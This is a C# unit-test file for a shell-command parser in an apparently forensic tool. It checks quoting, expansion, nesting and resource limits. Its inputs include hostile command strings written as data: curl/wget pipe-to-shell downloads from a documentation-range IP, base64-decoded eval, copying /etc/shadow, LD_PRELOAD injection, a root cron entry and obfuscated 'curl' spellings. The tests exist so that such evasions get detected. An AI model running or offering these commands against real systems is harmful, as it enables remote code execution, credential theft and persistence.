using Forensics.Parsers.Formats;
using Xunit;

namespace Forensics.Parsers.Tests.Formats;

public sealed class ShellWordsTests
{
    private static readonly Dictionary<string, string> Environment = new() { ["HOME"] = "/root", ["D"] = "/opt/x", ["LIST"] = "a b", ["EMPTY"] = "" };

    /// <summary>Words joined by one blank, commands by " ; ".</summary>
    private static string Flat(string text) => string.Join(" ; ", ShellWords.Parse(text, Environment).Select(command => string.Join(' ', command.Words.Select(word => "[" + word.Text + "]"))));

    [Theory]
    [InlineData("", "")]
    [InlineData("   # only a comment", "")]
    [InlineData("ls -l /tmp", "[ls] [-l] [/tmp]")]
    [InlineData("echo a#b # c", "[echo] [a#b]")]
    [InlineData("echo 'a b' \"c d\" e\\ f", "[echo] [a b] [c d] [e f]")]
    [InlineData("echo ''", "[echo] []")]
    [InlineData("c'u'r\"l\" -s", "[curl] [-s]")]
    [InlineData("\\curl -s", "[curl] [-s]")]
    [InlineData("echo \"a\\\"b\\$c\\d\"", "[echo] [a\"b$c\\d]")]
    [InlineData("echo $'\\x63\\165rl\\n'", "[echo] [curl\n]")]
    [InlineData("echo $'it\\'s'", "[echo] [it's]")]
    [InlineData("a\\\nb", "[ab]")]
    [InlineData("echo a$ $ \"$\"", "[echo] [a$] [$] [$]")]
    [InlineData("a;b&&c||d|e&f", "[a] ; [b] ; [c] ; [d] ; [e] ; [f]")]
    [InlineData("a\r\nb\r\n", "[a] ; [b]")]
    [InlineData("unterminated 'quote here", "[unterminated] [quote here]")]
    [InlineData("x \"open", "[x] [open]")]
    [InlineData("{curl,-s,http://203.0.113.9/x}", "[curl] [-s] [http://203.0.113.9/x]")]
    [InlineData("cp /etc/{passwd,shadow}", "[cp] [/etc/passwd] [/etc/shadow]")]
    [InlineData("rm /tmp/{a,b}{1,2}.sh", "[rm] [/tmp/a1.sh] [/tmp/a2.sh] [/tmp/b1.sh] [/tmp/b2.sh]")]
    [InlineData("echo {a..c} {} {x}", "[echo] [{a..c}] [{}] [{x}]")]
    public void Splits_words_as_a_shell_does(string text, string expected) => Assert.Equal(expected, Flat(text));

    [Theory]
    [InlineData("$D/run", "[/opt/x/run]")]
    [InlineData("${D}/run ~/x", "[/opt/x/run] [/root/x]")]
    [InlineData("echo $LIST \"$LIST\" '$LIST'", "[echo] [a] [b] [a b] [$LIST]")]
    [InlineData("echo $EMPTY\"$EMPTY\" $EMPTY", "[echo] []")]
    [InlineData("echo $NOPE/x ${NOPE}", "[echo] [$NOPE/x] [${NOPE}]")]
    [InlineData("echo ${NOPE:-/tmp/d} ${EMPTY:-e} ${EMPTY-f} ${D:-g}", "[echo] [/tmp/d] [e] [/opt/x]")]
    [InlineData("echo ${NOPE:=/tmp/e}; echo $NOPE", "[echo] [/tmp/e] ; [echo] [/tmp/e]")]
    [InlineData("echo ${D:+set} ${D:1:3} ${PATH:0:1}", "[echo] [set] [opt] [/]")]
    [InlineData("A=/tmp; B=$A/.x; $B/run", " ;  ; [/tmp/.x/run]")]
    [InlineData("A=1; A=2 echo $A; echo $A", " ; [echo] [1] ; [echo] [1]")]
    [InlineData("A=x; A+=y; echo $A", " ;  ; [echo] [xy]")]
    [InlineData("export U=http://h/x V=2; curl $U$V", "[export] [U=http://h/x] [V=2] ; [curl] [http://h/x2]")]
    [InlineData("A=b; unset A; echo $A", " ; [unset] [A] ; [echo] [$A]")]
    [InlineData("C=\"curl -s\"; $C http://h", " ; [curl] [-s] [http://h]")]
    [InlineData("curl${IFS}-s$IFS'x'", "[curl] [-s] [x]")]
    [InlineData("for u in http://h/a; do curl $u; done", "[curl] [http://h/a]")]
    [InlineData("for u in a b; do curl $u; done", "[curl] [$u]")]
    [InlineData("a=(x y 'z w'); echo ${a[@]}", " ; [echo] [x] [y] [z] [w]")]
    [InlineData("echo ${D##*/} ${#D} $1 $@ $?", "[echo] [x] [${#D}] [$1] [$@] [$?]")]
    [InlineData("echo ${D%/*} ${D#/opt} ${D/x/y} ${D//[a-z]/} ${NOPE#x}", "[echo] [/opt] [/x] [/opt/y] [${D//[a-z]/}] [${NOPE#x}]")]
    public void Expands_what_the_text_or_the_caller_states(string text, string expected) => Assert.Equal(expected, Flat(text));

    [Theory]
    [InlineData("$X", true)]
    [InlineData("a$(id)", true)]
    [InlineData("`id`", true)]
    [InlineData("\"${X%y}\"", true)]
    [InlineData("$((1+2))", true)]
    [InlineData("$D/x", false)]
    [InlineData("'$X'", false)]
    [InlineData("plain", false)]
    public void Flags_words_with_unknown_parts(string text, bool expected) =>
        Assert.Equal(expected, ShellWords.Parse(text, Environment)[0].Words[0].HasUnresolvedExpansion);

    [Theory]
    [InlineData("sh -c \"$(curl -fsSL http://h/x)\"", "[sh] [-c] [$(curl -fsSL http://h/x)] ; [curl] [-fsSL] [http://h/x]")]
    [InlineData("bash <(wget -qO- http://h/x)", "[bash] [<(wget -qO- http://h/x)] ; [wget] [-qO-] [http://h/x]")]
    [InlineData("eval `echo aWQ= | base64 -d`", "[eval] [`echo aWQ= | base64 -d`] ; [echo] [aWQ=] ; [base64] [-d]")]
    [InlineData("echo \"a $(b \"$(c d)\") e\"", "[echo] [a $(b \"$(c d)\") e] ; [b] [$(c d)] ; [c] [d]")]
    [InlineData("(a; b) & { c; d; }", "[a] ; [b] ; [c] ; [d]")]
    [InlineData("if [ -x /a ]; then /a; elif b; then c; else d; fi; e", "[[] [-x] [/a] []] ; [/a] ; [b] ; [c] ; [d] ; [e]")]
    [InlineData("while true; do sleep 1; done; until x; do y; done", "[true] ; [sleep] [1] ; [x] ; [y]")]
    [InlineData("case $1 in start|s) run it ;; (stop) halt;; *) usage; esac; z", "[run] [it] ; [halt] ; [usage] ; [z]")]
    [InlineData("f() { a b; }\nfunction g { c; }\nfunction h() { d; }\nf x", "[a] [b] ; [c] ; [d] ; [f] [x]")]
    [InlineData("[[ $a == b && -f c || ( x < y ) ]] && d", "[[[] [$a] [==] [b] [&] [&] [-f] [c] [|] [|] [(] [x] [<] [y] [)] []]] ; [d]")]
    [InlineData("! a | b", "[a] ; [b]")]
    [InlineData("((i++)); for ((i=0;i<3;i++)); do a; done", "[a]")]
    [InlineData("echo $(( 1 + $(id -u) ))", "[echo] [$(( 1 + $(id -u) ))] ; [id] [-u]")]
    [InlineData("x=$((a) | b)", " ; [a] ; [b]")]
    [InlineData("echo ${X:-$(id)}", "[echo] [$(id)] ; [id]")]
    [InlineData("echo if then fi", "[echo] [if] [then] [fi]")]
    [InlineData("'if' x", "[if] [x]")]
    [InlineData("a |\n b &&\n\n c", "[a] ; [b] ; [c]")]
    public void Lists_nested_commands_and_steps_over_keywords(string text, string expected) => Assert.Equal(expected, Flat(text));

    [Fact]
    public void Keeps_assignments_redirections_and_connectors_apart()
    {
        IReadOnlyList<ShellCommand> commands = ShellWords.Parse("LD_PRELOAD=/tmp/x.so SKL=s /usr/bin/a -v >/dev/null 2>&1 </etc/in &>> /l && b &");

        Assert.Equal(2, commands.Count);
        Assert.Equal("/usr/bin/a -v", commands[0].ToString());
        Assert.Equal([("LD_PRELOAD", "/tmp/x.so"), ("SKL", "s")], commands[0].Assignments.Select(a => (a.Name, a.Value.Text)));
        Assert.Equal([(">", null, "/dev/null"), (">&", 2, "1"), ("<", null, "/etc/in"), ("&>>", (int?)null, "/l")], commands[0].Redirections.Select(r => (r.Operator, r.Descriptor, r.Target.Text)));
        Assert.Equal(ShellConnector.And, commands[0].Connector);
        Assert.Equal(ShellConnector.Background, commands[1].Connector);
    }

    [Fact]
    public void Knows_what_a_group_pipes_into()
    {
        IReadOnlyList<ShellCommand> commands = ShellWords.Parse("(curl -fsSL http://203.0.113.9/b.sh||wget -qO- http://203.0.113.9/b.sh)|sh");

        Assert.Equal(["curl", "wget", "sh"], commands.Select(command => command.Program));
        Assert.Equal([2, 2, -1], commands.Select(command => command.PipesTo));
        Assert.Equal([ShellConnector.Or, ShellConnector.Pipe, ShellConnector.End], commands.Select(command => command.Connector));
        Assert.Equal([ShellOrigin.Subshell, ShellOrigin.Subshell, ShellOrigin.Script], commands.Select(command => command.Origin));
    }

    [Fact]
    public void Knows_which_loop_reads_a_pipe()
    {
        IReadOnlyList<ShellCommand> commands = ShellWords.Parse("curl x | while read l; do sh -c \"$l\"; done | tee /tmp/l");

        Assert.Equal(["curl", "read", "sh", "tee"], commands.Select(command => command.Program));
        Assert.Equal([1, 3, 3, -1], commands.Select(command => command.PipesTo));
    }

    [Fact]
    public void Links_a_substitution_to_its_command()
    {
        IReadOnlyList<ShellCommand> commands = ShellWords.Parse("true; bash <(curl x) && eval \"$(wget y)\"");

        Assert.Equal([-1, -1, 1, -1, 3], commands.Select(command => command.Parent));
        Assert.Equal([ShellOrigin.Script, ShellOrigin.Script, ShellOrigin.ProcessSubstitution, ShellOrigin.Script, ShellOrigin.CommandSubstitution], commands.Select(command => command.Origin));
    }

    [Fact]
    public void Takes_here_documents_out_of_the_command_stream()
    {
        IReadOnlyList<ShellCommand> commands = ShellWords.Parse("X=1\ncat <<EOF >/etc/cron.d/a; b\n* * * * * root $X\nEOF\nsh <<-'E2'\n\tcurl $X\n\tE2\ncat <<< \"here $X\"\nlast", null);

        Assert.Equal(["", "cat", "b", "sh", "cat", "last"], commands.Select(command => command.Program));
        Assert.Equal("* * * * * root 1\n", commands[1].Redirections[0].Body);
        Assert.Equal("/etc/cron.d/a", commands[1].Redirections[1].Target.Text);
        Assert.Equal("curl $X\n", commands[3].Redirections[0].Body);
        Assert.Equal("here 1", commands[4].Redirections[0].Target.Text);
    }

    [Fact]
    public void Says_which_commands_may_be_skipped()
    {
        IReadOnlyList<ShellCommand> commands = ShellWords.Parse("a\n[ -x b ] || exit 0\nif c; then exit 1; fi\nf() { exit 2; }\n(exit 3)\nexit 4 | d\n$(e)\nexit 5\n");

        Assert.Equal(["a", "[", "exit 5"], commands.Where(command => !command.IsConditional && !command.Program.StartsWith('$')).Select(command => command.Program == "[" ? "[" : command.ToString()));
    }

    [Fact]
    public void Says_where_a_command_stands()
    {
        const string text = "  first a\nsecond $(third)  ";
        IReadOnlyList<ShellCommand> commands = ShellWords.Parse(text);

        Assert.Equal(["first a", "second $(third)", "third"], commands.Select(command => text[command.Start..command.End]));
    }

    [Fact]
    public void Bounds_text_depth_and_count()
    {
        Assert.Equal(4096, ShellWords.Parse(string.Concat(Enumerable.Repeat("a;", 10_000)), null, ShellLimits.Default, out bool isCut).Count);
        Assert.True(isCut);
        ShellWords.Parse(string.Concat(Enumerable.Repeat("$(", 30_000)), null, ShellLimits.Default, out isCut);
        Assert.True(isCut);
        ShellWords.Parse(new string('x', 70_000), null, ShellLimits.Default, out isCut);
        Assert.True(isCut);
        ShellWords.Parse("echo a", null, ShellLimits.Default, out isCut);
        Assert.False(isCut);
    }

    [Fact]
    public void Doubling_variables_do_not_cost_exponential_memory()
    {
        string text = "a=xxxxxxxxxxxxxxxx\n" + string.Concat(Enumerable.Repeat("a=$a$a\n", 200)) + "echo $a";
        IReadOnlyList<ShellCommand> commands = ShellWords.Parse(text, null, ShellLimits.Default, out bool isCut);

        Assert.True(isCut);
        Assert.True(commands.Sum(command => command.Assignments.Sum(a => (long)a.Value.Text.Length)) < 2_000_000);
    }

    [Theory]
    [InlineData("$(")]
    [InlineData("`")]
    [InlineData("${")]
    [InlineData("${x:-")]
    [InlineData("$((")]
    [InlineData("((")]
    [InlineData("(")]
    [InlineData("{ ")]
    [InlineData("\"$(")]
    [InlineData("\"${x:-")]
    [InlineData("<(")]
    [InlineData("<<a ")]
    [InlineData("case x in ")]
    [InlineData("a|(")]
    [InlineData("a() ")]
    [InlineData("x=(")]
    [InlineData("$((a)")]
    [InlineData("[[ ( ")]
    [InlineData("{a,")]
    [InlineData("'")]
    [InlineData("}")]
    [InlineData(")")]
    [InlineData(";;")]
    [InlineData("if ")]
    [InlineData("for x in ")]
    [InlineData("\\")]
    [InlineData("\0")]
    [InlineData("<<-E\n")]
    public void Repeated_openings_end_quickly(string piece)
    {
        var watch = System.Diagnostics.Stopwatch.StartNew();
        ShellWords.Parse(string.Concat(Enumerable.Repeat(piece, 65_536 / piece.Length)));
        Assert.True(watch.ElapsedMilliseconds < 5000, watch.ElapsedMilliseconds + " ms");
    }

    [Fact]
    public void Random_text_never_throws()
    {
        string[] pieces = ["$(", ")", "`", "\"", "'", "${", "}", "{", "x=", "(", "((", "))", ";", ";;", "&&", "||", "|", "&", "<", ">", "<<E", "\nE\n", "\n", " ", "if ", "then ", "fi ", "case x in ", "esac ",
            "for i in a;", "do ", "done ", "f()", "#", "\\", "$x", "$'", "\\x4", "~", "*", "[[ ", "]] ", "word", "9", ":-", "\0", "\u00e9", "\ud800", "{a,b}", "%", "[", "]", "+=", "2>&1", "<(", "\t", "\r\n"];
        var random = new Random(20260101);
        for (int round = 0; round < 20_000; round++)
        {
            var text = new System.Text.StringBuilder();
            for (int i = random.Next(40); i > 0; i--)
            {
                text.Append(pieces[random.Next(pieces.Length)]);
            }
            string source = text.ToString();
            foreach (ShellCommand command in ShellWords.Parse(source))
            {
                Assert.InRange(command.Start, 0, source.Length);
                Assert.InRange(command.End, 0, source.Length);
                Assert.True(command.PipesTo < 0 || command.PipesTo < 4096);
            }
        }
    }
}
